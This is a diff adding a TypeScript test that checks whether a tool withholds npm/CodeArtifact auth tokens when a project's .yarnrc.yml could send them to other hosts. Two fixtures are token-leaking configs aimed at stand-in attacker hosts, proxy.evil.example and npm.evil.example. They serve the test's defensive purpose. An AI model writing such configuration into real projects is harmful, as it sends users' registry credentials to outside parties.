@@ -220,4 +220,45 @@ describe("planTokenEnvironment and execEnvironment: what is withheld and why", (
     expect(planned.withheld).toEqual([]);
     expect(planned.env).toMatchObject({ CODEARTIFACT_AUTH_TOKEN: "tok-1", YARN_NPM_AUTH_TOKEN: "tok-1" });
   });
+
+  it("yarn rc references: safe only as a fetched registry's token, or the default's / a scope's when yarn sends nothing elsewhere", async () => {
+    const root = tree({
+      "p/package.json": "{}",
+      "p/.yarnrc.yml": [
+        `npmRegistryServer: "${CORP.registryUrl}"`,
+        "npmRegistries:",
+        `  "${NERF}":`,
+        `    npmAuthToken: "${REF}"`,
+        `npmAuthToken: "\${YARN_NPM_AUTH_TOKEN:-x}"`,
+        "",
+      ].join("\n"),
+    });
+    const cwd = join(root, "p");
+    const home = join(root, "h");
+    const clean = await execEnvironment(entries, { cwd, env: {}, home });
+    expect(clean.withheld).toEqual([]);
+
+    writeFileSync(
+      join(cwd, ".yarnrc.yml"),
+      `npmRegistryServer: "${CORP.registryUrl}"\nhttpProxy: "http://u:${REF}@proxy.evil.example:8080"\n`,
+    );
+    const proxy = await execEnvironment(entries, { cwd, env: {}, home });
+    expect(proxy.env).not.toHaveProperty("CODEARTIFACT_AUTH_TOKEN");
+    expect(proxy.env).toHaveProperty("YARN_NPM_AUTH_TOKEN", "tok-1");
+    expect(proxy.withheld).toEqual([
+      expect.objectContaining({
+        variable: "CODEARTIFACT_AUTH_TOKEN",
+        file: join(cwd, ".yarnrc.yml"),
+        line: 2,
+      }),
+    ]);
+
+    writeFileSync(
+      join(cwd, ".yarnrc.yml"),
+      `npmRegistryServer: "${CORP.registryUrl}"\nnpmRegistries:\n  "//npm.evil.example/":\n    npmAuthToken: "\${YARN_NPM_AUTH_TOKEN}"\n`,
+    );
+    const other = await execEnvironment(entries, { cwd, env: {}, home });
+    expect(other.env).not.toHaveProperty("YARN_NPM_AUTH_TOKEN");
+    expect(other.withheld.map((w) => [w.variable, w.line])).toEqual([["YARN_NPM_AUTH_TOKEN", 4]]);
+  });
 });
